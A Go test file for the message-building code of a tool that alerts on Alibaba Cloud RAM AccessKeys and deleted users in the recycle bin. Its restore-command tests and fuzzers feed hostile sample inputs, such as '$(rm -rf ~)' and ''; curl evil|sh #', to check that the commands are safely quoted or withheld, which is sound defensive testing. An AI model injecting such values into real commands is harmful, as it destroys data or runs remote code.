package notify_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/akrecycle/ak-recycle-alert/alert"
	"github.com/akrecycle/ak-recycle-alert/notify"
	nt "github.com/akrecycle/ak-recycle-alert/notify/notifytest"
)

func TestNewMessage(t *testing.T) {
	m := notify.NewMessage(nt.Sample(t))
	var order []string
	for _, k := range m.Keys {
		order = append(order, k.Alert.AccessKeyID)
	}
	wantOrder := []string{"LTAI5tDavePastDelete0003", "LTAI5tAliceExpiring0002", "LTAI5tCarolRecycled0001"}
	if diff := cmp.Diff(wantOrder, order); diff != "" {
		t.Errorf("notify.NewMessage keys order (-want +got):\n%s", diff)
	}
	tests := []struct {
		name, got, want string
	}{
		{"headline", m.Headline, "3 RAM AccessKeys in the recycle bin need attention"},
		{"repeat", m.Repeat, "repeat 2 of the 17:00 check"},
		{"account", m.Account, "prod (1234567890123456)"},
		{"next", m.Next, "2026-12-01 17:00 CST"},
		{"past left", m.Keys[0].Left, "past DeleteDate, may already be gone"},
		{"left", m.Keys[1].Left, "in 3d 23h"},
		{"purged", m.Keys[1].Purged, "2026-12-04 16:12 CST"},
		{"event", m.Keys[1].Event, "expiring (3d threshold)"},
		{"event 0", m.Keys[0].Event, "expiring (purged before the next check)"},
		{"restore", m.Keys[1].Restore, "aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002"},
		{"errors", m.ErrorGroups[0].Text(), "NoPermission, 2 users: eve, frank (You are not authorized to do this action.)"},
		{"digest", notify.NewMessage(nt.Digest(t)).Headline, "Digest: no AccessKey in the recycle bin of 12 users"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%s = %q, want %q", tt.name, tt.got, tt.want)
		}
	}
}

func TestHeadline(t *testing.T) {
	tests := []struct {
		name string
		r    func() *alert.Report
		want string
	}{
		{"one", func() *alert.Report { r := nt.Sample(t); r.Alerts = r.Alerts[:1]; return r },
			"1 RAM AccessKey in the recycle bin needs attention"},
		{"errors only", func() *alert.Report { r := nt.Sample(t); r.Alerts = nil; return r },
			"RAM AccessKey recycle bin: 3 users could not be read"},
		{"quiet", func() *alert.Report { r := nt.Sample(t); r.Alerts, r.Errors, r.Warnings = nil, nil, nil; return r },
			"No RAM AccessKey in the recycle bin needs attention"},
		{"warnings only", func() *alert.Report { r := nt.Sample(t); r.Alerts, r.Errors = nil, nil; return r },
			"No RAM AccessKey in the recycle bin needs attention, but the check has 1 warning"},
		{"digest keys", func() *alert.Report { r := nt.Sample(t); r.Mode = alert.ModeDigest; return r },
			"Digest: 3 RAM AccessKeys in the recycle bin of 4 users"},
	}
	for _, tt := range tests {
		if got := notify.NewMessage(tt.r()).Headline; got != tt.want {
			t.Errorf("%s: Headline = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestSplit(t *testing.T) {
	tests := []struct {
		name      string
		keys      int
		perPart   int
		wantParts int
		wantRest  int
	}{
		{"no keys", 0, 10, 1, 0},
		{"one part", 5, 10, 1, 0},
		{"exact", 20, 10, 2, 0},
		{"150 keys", 150, 30, 4, 50},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := notify.NewMessage(nt.Many(t, tt.keys))
			parts := m.Split(func(p notify.Part) bool { return len(p.Keys) <= tt.perPart })
			if len(parts) != tt.wantParts {
				t.Fatalf("len(Split) = %d, want %d", len(parts), tt.wantParts)
			}
			if m.Rest != tt.wantRest {
				t.Errorf("Rest = %d, want %d", m.Rest, tt.wantRest)
			}
			var got []string
			for i, p := range parts {
				if p.Index != i+1 || p.Total != len(parts) || p.Summary != (i == 0) || p.Rest != (i == len(parts)-1) {
					t.Errorf("part %d = {Index %d Total %d Summary %v Rest %v}", i, p.Index, p.Total, p.Summary, p.Rest)
				}
				if len(parts) > 1 && !strings.Contains(p.Context(), fmt.Sprintf("part %d/%d", i+1, len(parts))) ||
					!strings.Contains(p.Context(), "1234567890123456") {
					t.Errorf("part %d Context = %q, want the account and its number", i, p.Context())
				}
				for _, k := range p.Keys {
					got = append(got, k.Alert.AccessKeyID)
				}
			}
			var want []string
			for _, k := range m.Keys {
				want = append(want, k.Alert.AccessKeyID)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("keys across parts (-want +got):\n%s", diff)
			}
			if last := parts[len(parts)-1].RestLine(); tt.wantRest > 0 && !strings.Contains(last, "50 more alerted AccessKeys") {
				t.Errorf("last part's rest line = %q, want the count of the rest", last)
			}
		})
	}
}

func TestPartTitle(t *testing.T) {
	r := nt.Sample(t)
	r.DryRun = true
	m := notify.NewMessage(r)
	p := notify.Part{Message: m, Index: 2, Total: 4}
	want := "[DRY RUN] 3 RAM AccessKeys in the recycle bin need attention (repeat 2 of the 17:00 check, part 2/4)"
	if got := p.Title(); got != want {
		t.Errorf("Title() = %q, want %q", got, want)
	}
	r.RetryCount = 0
	r.DryRun = false
	if got, want := (notify.Part{Message: notify.NewMessage(r), Index: 1, Total: 1}).Title(), "3 RAM AccessKeys in the recycle bin need attention"; got != want {
		t.Errorf("Title() = %q, want %q", got, want)
	}
}

func TestRestoreCommand(t *testing.T) {
	tests := []struct {
		name, userID, accessKeyID string
		want                      string
		wantOK                    bool
	}{
		{"ordinary", "20732900249392aa", "LTAI5tAliceExpiring0002",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002", true},
		{"substitution quoted", "$(rm -rf ~)", "LTAI5t",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId '$(rm -rf ~)' --UserAccessKeyId LTAI5t", true},
		{"markup quoted", "123", "<!channel>*x*",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 123 --UserAccessKeyId '<!channel>*x*'", true},
		{"single quote", "123", "'; curl evil|sh #", "", false},
		{"backtick", "123", "LTAI`id`", "", false},
		{"line break", "123\n", "LTAI5t", "", false},
		{"non-ASCII", "123", "LTAI\u202e5t", "", false},
		{"empty", "", "LTAI5t", "", false},
	}
	for _, tt := range tests {
		got, ok := restoreCommand(tt.userID, tt.accessKeyID)
		if got != tt.want || ok != tt.wantOK {
			t.Errorf("%s: the restore command of (%q, %q) = %q, %v; want %q, %v", tt.name, tt.userID, tt.accessKeyID, got, ok, tt.want, tt.wantOK)
		}
	}
}

// FuzzRestoreCommand: a command is given exactly when the IDs allow one, and a POSIX shell splits it
// into exactly the intended words.
func FuzzRestoreCommand(f *testing.F) {
	for i, s := range nt.HostileSeeds {
		f.Add(s, nt.HostileSeeds[(i+7)%len(nt.HostileSeeds)])
	}
	f.Fuzz(func(t *testing.T, userID, accessKeyID string) {
		cmd, ok := restoreCommand(userID, accessKeyID)
		want, wantOK := nt.RestoreArgv(alert.Alert{UserID: userID, AccessKeyID: accessKeyID})
		if ok != wantOK {
			t.Fatalf("restoreCommand(%q, %q) ok = %v, want %v", userID, accessKeyID, ok, wantOK)
		}
		if !ok {
			if cmd != "" {
				t.Fatalf("restoreCommand(%q, %q) = %q with ok false", userID, accessKeyID, cmd)
			}
			return
		}
		got, err := nt.ShellWords(cmd)
		if err != nil || !cmp.Equal(got, want) {
			t.Fatalf("restoreCommand(%q, %q) = %q, which splits into %q, %v; want %q", userID, accessKeyID, cmd, got, err, want)
		}
	})
}

// restoreCommand is the restore command a message shows for a key of userID and accessKeyID, and
// whether it shows one.
func restoreCommand(userID, accessKeyID string) (string, bool) {
	r := &alert.Report{Findings: alert.Findings{Mode: alert.ModeCrossing,
		Alerts: []alert.Alert{{Event: alert.Recycled, UserName: "u", UserID: userID, AccessKeyID: accessKeyID}}}}
	cmd := notify.NewMessage(r).Keys[0].Restore
	return cmd, cmd != ""
}

// TestUserItems: a deleted user reads differently from a key: what is purged when (its first loss
// first), its keys, and the commands that restore the user and then each key; with no key listed, that
// every AccessKey goes with the user.
func TestUserItems(t *testing.T) {
	m := notify.NewMessage(nt.Users(t))
	var order []string
	for _, k := range m.Keys {
		order = append(order, k.Alert.UserName+":"+string(k.Alert.Event))
	}
	if diff := cmp.Diff([]string{"alice:expiring", "frank:userExpiring", "eve:userRecycled", "carol:recycled"}, order); diff != "" {
		t.Fatalf("items order (-want +got):\n%s", diff)
	}
	frank, eve := m.Keys[1], m.Keys[2]
	if m.Keys[0].DeletedUser != nil || frank.DeletedUser == nil || eve.DeletedUser == nil {
		t.Fatalf("DeletedUser set on %v, want on the user alerts only", order)
	}
	var eveKeys []string
	for _, k := range eve.DeletedUser.Keys {
		eveKeys = append(eveKeys, k.Text()+" | "+k.Restore)
	}
	tests := []struct {
		name, got, want string
	}{
		{"headline", m.Headline, "2 deleted RAM users and 2 RAM AccessKeys in the recycle bin need attention"},
		{"context", (notify.Part{Message: m, Index: 1, Total: 1}).Context(),
			"Account prod (1234567890123456) · checked 2026-11-30 17:00 CST · next check 2026-12-01 17:00 CST · 2 users read, 2 deleted users watched · run 1-6759a3c2-4f8e2b1a9d0c"},
		{"event", frank.Event, "user expiring (7d threshold)"},
		{"event recycled", eve.Event, "user deleted"},
		{"summary", frank.DeletedUser.Summary, "RAM user frank was deleted: frank is purged on 2026-12-08 09:00 CST (in 7d 15h)"},
		{"no keys", frank.DeletedUser.NoKeys, "No AccessKey of frank is listed in the recycle bin: every AccessKey of frank is purged with the user"},
		{"summary, a key first", eve.DeletedUser.Summary,
			"RAM user eve was deleted: eve and 2 AccessKeys are purged on 2026-12-30 09:00 CST, AccessKey LTAI5tEveOlderKey0005 sooner, on 2026-12-10 10:00 CST (in 9d 16h)"},
		{"purged: the first loss", eve.Purged, "2026-12-10 10:00 CST"},
		{"deleted: the user's own", eve.DeletedUser.Deleted, "2026-12-30 09:00 CST"},
		{"restore the user", eve.Restore, "aliyun ims RestoreUserFromRecycleBin --UserId 20732900249392ee"},
		{"restore text", eve.RestoreText(func(s string) string { return "`" + s + "`" }, func(s string) string { return s }),
			"`aliyun ims RestoreUserFromRecycleBin --UserId 20732900249392ee`"},
		{"no restore text", eve.RestoreText(func(string) string { return "" }, func(s string) string { return s }),
			"not shown: the user ID holds characters that are unsafe in a shell or in this message; restore the user in the RAM console"},
		{"no keys listed for frank", fmt.Sprint(len(frank.DeletedUser.Keys)), "0"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%s = %q, want %q", tt.name, tt.got, tt.want)
		}
	}
	wantKeys := []string{
		"AccessKey LTAI5tEveOlderKey0005: deleted 2026-11-10 10:00 CST, purged 2026-12-10 10:00 CST | aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392ee --UserAccessKeyId LTAI5tEveOlderKey0005",
		"AccessKey LTAI5tEveWithUser0006: deleted 2026-11-30 09:00 CST, purged 2026-12-30 09:00 CST | aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392ee --UserAccessKeyId LTAI5tEveWithUser0006",
	}
	if diff := cmp.Diff(wantKeys, eveKeys); diff != "" {
		t.Errorf("eve's keys (-want +got):\n%s", diff)
	}
}

func TestHeadlineUsers(t *testing.T) {
	only := func(events ...alert.Event) func() *alert.Report {
		return func() *alert.Report {
			r := nt.Users(t)
			r.Alerts = slices.DeleteFunc(r.Alerts, func(a alert.Alert) bool { return !slices.Contains(events, a.Event) })
			return r
		}
	}
	digest := func(r *alert.Report) *alert.Report {
		r.Mode = alert.ModeDigest
		for i := range r.Alerts {
			r.Alerts[i].Event = map[bool]alert.Event{true: alert.UserDigest, false: alert.Digest}[r.Alerts[i].Event.ForUser()]
		}
		return r
	}
	tests := []struct {
		name string
		r    *alert.Report
		want string
	}{
		{"one user", only(alert.UserRecycled)(), "1 deleted RAM user and its AccessKeys need attention"},
		{"two users", only(alert.UserRecycled, alert.UserExpiring)(), "2 deleted RAM users and their AccessKeys need attention"},
		{"a user and a key", only(alert.UserRecycled, alert.Recycled)(), "1 deleted RAM user and 1 RAM AccessKey in the recycle bin need attention"},
		{"digest", digest(nt.Users(t)), "Digest: 2 RAM AccessKeys in the recycle bin of 2 users and 2 deleted RAM users"},
		{"digest, users only", digest(only(alert.UserRecycled)()), "Digest: no AccessKey in the recycle bin of 2 users and 1 deleted RAM user"},
	}
	for _, tt := range tests {
		if got := notify.NewMessage(tt.r).Headline; got != tt.want {
			t.Errorf("%s: Headline = %q, want %q", tt.name, got, tt.want)
		}
	}
}

// TestRestLineUsers: user alerts count against the 100 listed like keys, and the line about the rest
// says what they are.
func TestRestLineUsers(t *testing.T) {
	tests := []struct {
		name        string
		keys, users int
		want        string
	}{
		{"keys only", 150, 0, "50 more alerted AccessKeys are not listed here (only the 100 most urgent are): the generic webhook and this run's logged result carry all 150."},
		{"keys and users", 98, 5, "1 more alerted AccessKey and 2 more deleted RAM users are not listed here (only the 100 most urgent are): the generic webhook and this run's logged result carry all 103."},
		{"one user", 100, 1, "1 more deleted RAM user is not listed here (only the 100 most urgent are): the generic webhook and this run's logged result carry all 101."},
		{"users", 100, 3, "3 more deleted RAM users are not listed here (only the 100 most urgent are): the generic webhook and this run's logged result carry all 103."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := nt.Many(t, tt.keys)
			last := r.Alerts[len(r.Alerts)-1].DeleteDate
			for i := range tt.users {
				// With fewer than 100 keys, users 0 to 2 come just before the last key; the others after it.
				purge := last.Add(time.Duration(i+1) * time.Minute)
				if i < 3 && tt.keys < 100 {
					purge = last.Add(-time.Duration(i+1) * time.Minute)
				}
				r.Alerts = append(r.Alerts, alert.Alert{Event: alert.UserExpiring, UserName: fmt.Sprintf("gone%d", i), UserID: fmt.Sprint(3000 + i),
					DeleteDate: purge, FirstPurgeDate: purge})
			}
			m := notify.NewMessage(r)
			var users int
			for _, k := range m.Keys {
				if k.DeletedUser != nil {
					users++
				}
			}
			if len(m.Keys) != notify.MaxListedKeys || users+m.RestUsers != tt.users {
				t.Errorf("%d items listed (%d users), %d users in the rest; want %d items, %d users in all", len(m.Keys), users, m.RestUsers, notify.MaxListedKeys, tt.users)
			}
			parts := m.Split(func(notify.Part) bool { return true })
			if got := parts[len(parts)-1].RestLine(); got != tt.want {
				t.Errorf("RestLine = %q, want %q", got, tt.want)
			}
		})
	}
}

// FuzzRestoreUserCommand: a deleted user's restore commands (the user's, then its key's) are given
// exactly when the IDs allow them, and a POSIX shell splits each into exactly the intended words.
func FuzzRestoreUserCommand(f *testing.F) {
	for i, s := range nt.HostileSeeds {
		f.Add(s, nt.HostileSeeds[(i+7)%len(nt.HostileSeeds)])
	}
	f.Fuzz(func(t *testing.T, userID, accessKeyID string) {
		r := &alert.Report{Findings: alert.Findings{Mode: alert.ModeCrossing, Alerts: []alert.Alert{{Event: alert.UserRecycled,
			UserName: "u", UserID: userID, AccessKeys: []alert.UserKey{{AccessKeyID: accessKeyID}}}}}}
		k := notify.NewMessage(r).Keys[0]
		cmds := []string{k.Restore, k.DeletedUser.Keys[0].Restore}
		for i, want := range nt.Restores(k.Alert) {
			if (cmds[i] != "") != want.OK {
				t.Fatalf("command %d of (%q, %q) = %q, want one: %v", i, userID, accessKeyID, cmds[i], want.OK)
			}
			if cmds[i] == "" {
				continue
			}
			if got, err := nt.ShellWords(cmds[i]); err != nil || !cmp.Equal(got, want.Argv) {
				t.Fatalf("command %d of (%q, %q) = %q, which splits into %q, %v; want %q", i, userID, accessKeyID, cmds[i], got, err, want.Argv)
			}
		}
	})
}

// TestMessageAccounts: a run over several accounts lists its alerts grouped by account, the accounts
// in the order of their most urgent alert; its headline, context and error groups name the accounts.
func TestMessageAccounts(t *testing.T) {
	r := nt.Accounts(t)
	m := notify.NewMessage(r)
	var order []string
	for _, k := range m.Keys {
		order = append(order, k.Account+" "+k.Alert.UserName)
	}
	want := []string{"dev (1000000000000001) dan", "dev (1000000000000001) grace", "prod (1234567890123456) alice", "prod (1234567890123456) carol"}
	if diff := cmp.Diff(want, order); diff != "" {
		t.Errorf("keys (-want +got):\n%s", diff)
	}
	parts := m.Split(func(notify.Part) bool { return true })
	if len(parts) != 1 {
		t.Fatalf("Split() = %d parts, want 1", len(parts))
	}
	var groups []string
	for _, g := range parts[0].Groups() {
		groups = append(groups, fmt.Sprintf("%s: %d keys from %d", g.Account, len(g.Keys), g.Offset))
	}
	if diff := cmp.Diff([]string{"dev (1000000000000001): 2 keys from 0", "prod (1234567890123456): 2 keys from 2"}, groups); diff != "" {
		t.Errorf("Groups() (-want +got):\n%s", diff)
	}
	var errs []string
	for _, g := range m.ErrorGroups {
		errs = append(errs, g.Text())
	}
	wantErrs := []string{
		"dev (1000000000000001): EntityNotExist.User, 1 user: ghost (GetUser: The user does not exist. (HTTP 404))",
		"staging (1000000000000002): EntityNotExist.Role: the account could not be read (" + r.Errors[1].Message + ")",
	}
	if diff := cmp.Diff(wantErrs, errs); diff != "" {
		t.Errorf("error groups (-want +got):\n%s", diff)
	}
	for _, tt := range []struct{ name, got, want string }{
		{"headline", m.Headline, "1 deleted RAM user and 3 RAM AccessKeys in the recycle bin need attention in 2 of 4 accounts"},
		{"account", m.Account, "4 accounts"},
		{"context", parts[0].Context(), "Accounts dev (1000000000000001), prod (1234567890123456), staging (1000000000000002) · checked 2026-11-30 17:00 CST · " +
			"next check 2026-12-01 17:00 CST · 9 users read in 3 of 4 accounts, 1 deleted user watched · run 1-6759a3c2-4f8e2b1a9d0c"},
	} {
		if tt.got != tt.want {
			t.Errorf("%s = %q, want %q", tt.name, tt.got, tt.want)
		}
	}
	r.Mode, r.Alerts, r.Errors = alert.ModeDigest, nil, nil
	d := notify.NewMessage(r)
	if want := "Digest: no AccessKey in the recycle bin of 9 users in 4 accounts"; d.Headline != want {
		t.Errorf("digest headline = %q, want %q", d.Headline, want)
	}
	if got, want := d.Split(func(notify.Part) bool { return true })[0].Where(), strings.Join(d.Accounts, ", "); got != want {
		t.Errorf("Where() of a part without keys = %q, want every account %q", got, want)
	}
}

// TestMessageOneAccount: a run of one account has no headings: one group, its account unnamed.
func TestMessageOneAccount(t *testing.T) {
	m := notify.NewMessage(nt.Sample(t))
	groups := m.Split(func(notify.Part) bool { return true })[0].Groups()
	if m.Accounts != nil || len(groups) != 1 || groups[0].Account != "" || len(groups[0].Keys) != 3 {
		t.Errorf("accounts %v, groups %+v; want no accounts and one group of 3 keys without a heading", m.Accounts, groups)
	}
}

// TestWhereNamesTen: a part names at most 10 accounts and counts the others.
func TestWhereNamesTen(t *testing.T) {
	m := notify.NewMessage(nt.ManyAccounts(t, 30, 14))
	got := m.Split(func(notify.Part) bool { return true })[0].Where()
	if !strings.HasSuffix(got, " and 5 more") || strings.Count(got, "(") != 10 {
		t.Errorf("Where() = %q, want 10 accounts and 5 more", got)
	}
}

// TestMessageUnreadAccounts: the first run over a directory whose 40 members lack the reader role shows
// those accounts on one line, counts them in the context, and folds the error groups beyond
// maxErrorGroups into one line, so that the warnings still show.
func TestMessageUnreadAccounts(t *testing.T) {
	r := nt.UnreadAccounts(t, 40)
	m := notify.NewMessage(r)
	var errs []string
	for _, g := range m.ErrorGroups {
		errs = append(errs, g.Text())
	}
	if len(errs) != 10 {
		t.Fatalf("%d error groups, want 10:\n%s", len(errs), strings.Join(errs, "\n"))
	}
	if want := "EntityNotExist.Role, 41 accounts could not be read: staging (1000000000000002), member-0 (1000000000000100)"; !strings.HasPrefix(errs[0], want) ||
		!strings.Contains(errs[0], "member-8 (1000000000000108) and 31 more (AssumeRole: ") {
		t.Errorf("first error group = %q, want it to start %q and count the accounts beyond 10", errs[0], want)
	}
	if want := "5 error groups more (5 users not read): the generic webhook and this run's logged result list every error"; errs[9] != want {
		t.Errorf("last error group = %q, want %q", errs[9], want)
	}
	parts := m.Split(func(notify.Part) bool { return true })
	if ctx := parts[0].Context(); !strings.Contains(ctx, "9 users read in 15 of 56 accounts") {
		t.Errorf("context = %q, want the accounts read counted apart from the accounts tried", ctx)
	}
	if where := parts[0].Where(); !strings.HasSuffix(where, " and 40 more") || strings.Contains(where, ", ,") {
		t.Errorf("Where() = %q, want 10 accounts named and the 40 others counted (the 31 unread ones not named, 9 named beyond 10)", where)
	}
}
